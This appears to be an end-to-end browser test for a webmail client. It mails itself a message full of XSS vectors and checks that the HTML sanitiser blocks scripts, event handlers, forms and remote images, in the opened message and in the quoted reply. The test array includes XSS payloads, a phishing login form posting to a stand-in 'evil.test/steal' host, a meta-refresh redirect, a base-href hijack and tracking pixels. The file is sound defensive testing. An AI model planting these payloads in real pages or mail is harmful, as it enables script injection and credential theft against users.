import fs from 'node:fs';
import path from 'node:path';
import type { SendResponse } from '../src/api/contract';
import { expect, test } from './support/fixtures';

// DOMPurify's public XSS vectors (attribution: src/compose/model/sanitize/__fixtures__/README.md)
// plus vectors that would flag the page itself if anything in the mail ever ran.
const vectors = JSON.parse(fs.readFileSync(path.join(import.meta.dirname, '../src/compose/model/sanitize/__fixtures__/xss-vectors.json'), 'utf8')) as string[];
const flagging = [
  '<img src=x onerror="top.__pwned=1;parent.__pwned=1">',
  '<svg onload="top.__pwned=1"></svg>',
  '<script>top.__pwned=1</script>',
  '<a id="evil" href="javascript:top.__pwned=1">click me</a>',
  '<iframe srcdoc="<script>top.__pwned=1</script>"></iframe>',
  '<form action="https://evil.test/steal"><input name="password"><button>Log in</button></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.test/">',
  '<base href="https://evil.test/">',
  '<style>@import url(https://evil.test/track.css); body{background:url(https://evil.test/pixel.png)}</style>',
  '<img src="https://tracker.test/pixel.gif" alt="tracking pixel">',
];

test('a message full of XSS payloads is read with no script running and remote images blocked', async ({ page, account, makeAccount, apiAs, control, signIn }) => {
  const mallory = await makeAccount('mallory');
  await (await apiAs(mallory)).send<SendResponse>('POST', '/mails/send', {
    to: account.email,
    subject: 'Totally harmless newsletter',
    bodyHtml: `<p>Hello!</p>${[...flagging, ...vectors].join('\n')}<p id="last">The end.</p>`,
  });
  // Past the undo window, the server delivers it.
  await control.advance(11_000);
  const api = await apiAs(account);
  await expect.poll(async () => (await api.mails('inbox')).map((m) => m.subject)).toContain('Totally harmless newsletter');

  const dialogs: string[] = [];
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  await signIn(page, account);
  await page.getByRole('link', { name: /Totally harmless newsletter/ }).click();
  await expect(page.getByRole('heading', { name: 'Totally harmless newsletter' })).toBeVisible();

  const frame = page.getByTitle('Message: Totally harmless newsletter').contentFrame();
  // Some payloads open raw-text elements that swallow the rest of the mail, as a browser would: check the start.
  await expect(frame.getByText('Hello!')).toBeVisible();
  await expect(page.getByText(/remote images? (was|were) blocked/)).toBeVisible();
  // Clicking a neutralised javascript: link does nothing either.
  await frame.getByText('click me', { exact: true }).click();

  // The frame's own head holds our charset and CSP metas; nothing of the mail's may survive in the body.
  expect(await frame.locator('body').locator('script, iframe, form, meta, base, object, embed, svg, math').count()).toBe(0);
  expect(await frame.locator('[onerror], [onload], [onclick], [onmouseover]').count()).toBe(0);
  expect(await page.evaluate(() => (window as unknown as { __pwned?: number }).__pwned)).toBeUndefined();
  expect(dialogs).toEqual([]);

  // Reply with it quoted: the quote is shown in the app's own document, so the sanitiser is all
  // that stands between it and the page. Open it, send the reply, and still nothing has run.
  await page.getByRole('button', { name: 'Reply', exact: true }).click();
  const reply = page.getByRole('dialog', { name: 'Reply' });
  const quote = reply.getByRole('group').filter({ hasText: 'Quoted message' });
  await quote.getByText('Quoted message').click();
  await expect(quote.getByText('Hello!')).toBeVisible();
  await quote.getByText('click me', { exact: true }).click();
  expect(await quote.locator('script, iframe, form, meta, base, object, embed, svg, math, [onerror], [onload], [onclick]').count()).toBe(0);
  await reply.getByRole('textbox', { name: 'Message body' }).click();
  await page.keyboard.type('Nice try.');
  await reply.getByRole('button', { name: 'Send', exact: true }).click();
  await expect(reply).toBeHidden();
  await control.advance(11_000);
  const malloryApi = await apiAs(mallory);
  await expect.poll(async () => (await malloryApi.mails('inbox')).map((m) => m.subject)).toContain('Re: Totally harmless newsletter');
  const sent = (await malloryApi.mails('inbox')).find((m) => m.subject === 'Re: Totally harmless newsletter')!;
  const quoted = await malloryApi.body(sent.id);
  expect(quoted).toContain('Nice try.');
  // Parsed, not grepped: payload text such as "[javascript:123]" may stay as harmless text.
  const dangerous = await page.evaluate((html) => {
    const doc = new DOMParser().parseFromString(html, 'text/html');
    const all = [...doc.body.querySelectorAll('*')];
    return {
      elements: doc.body.querySelectorAll('script, iframe, form, meta, base, object, embed, svg, math').length,
      handlers: all.filter((el) => [...el.attributes].some((a) => a.name.toLowerCase().startsWith('on'))).length,
      urls: all.filter((el) => ['href', 'src', 'action', 'formaction'].some((n) => /^\s*(javascript|vbscript|data:text\/html)/i.test(el.getAttribute(n) ?? ''))).length,
    };
  }, quoted);
  expect(dangerous).toEqual({ elements: 0, handlers: 0, urls: 0 });

  expect(await page.evaluate(() => (window as unknown as { __pwned?: number }).__pwned)).toBeUndefined();
  expect(dialogs).toEqual([]);
});
